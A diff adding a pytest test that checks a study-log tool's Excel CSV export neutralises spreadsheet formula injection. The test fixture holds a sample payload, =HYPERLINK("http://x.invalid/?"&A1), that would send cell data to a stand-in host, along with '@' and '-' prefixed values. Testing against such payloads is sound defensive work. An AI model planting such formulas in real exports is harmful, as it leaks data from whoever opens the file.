@@ -212,3 +212,22 @@ def test_export_summary_says_both_numbers_when_questions_are_skipped(tmp_path: P
     )
     done = _studylog(root, "export", "-f", "csv", "-o", str(tmp_path / "q.csv"))
     assert done.stderr.decode() == f"Wrote 2 questions from 1 post to {tmp_path / 'q.csv'}.\n"
+
+
+def test_export_csv_excel_keeps_formulas_from_running(tmp_path: Path) -> None:
+    """A pushed question like `=HYPERLINK(…)` is text in Excel, never a formula."""
+    root = _excel_log(tmp_path)
+    post = root / "_posts" / "2021-08-05-day4.md"
+    post.write_bytes(
+        post.read_bytes()
+        + b'\r\n3. @evil\xeb\x8b\x98 \xec\xa7\x88\xeb\xac\xb8 : =HYPERLINK("http://x.invalid/?"&A1)\r\n'
+        + b"\r\n    \xeb\x8b\xb5\xeb\xb3\x80 : -1 vs +1\r\n"
+    )
+    excel = _studylog(root, "export", "-f", "csv", "--excel")
+    rows = list(csv.reader(io.StringIO(excel.stdout.decode("utf-8-sig"), newline="")))
+    assert rows[3][4:] == ["'@evil", '\'=HYPERLINK("http://x.invalid/?"&A1)', "'-1 vs +1"]
+    assert rows[1][4:6] == ["민수", "한글이 깨지나요?"]
+    # Without --excel the CSV is data for scripts: the text as it was typed.
+    plain = _studylog(root, "export", "-f", "csv")
+    rows = list(csv.reader(io.StringIO(plain.stdout.decode(), newline="")))
+    assert rows[3][4:] == ["@evil", '=HYPERLINK("http://x.invalid/?"&A1)', "-1 vs +1"]
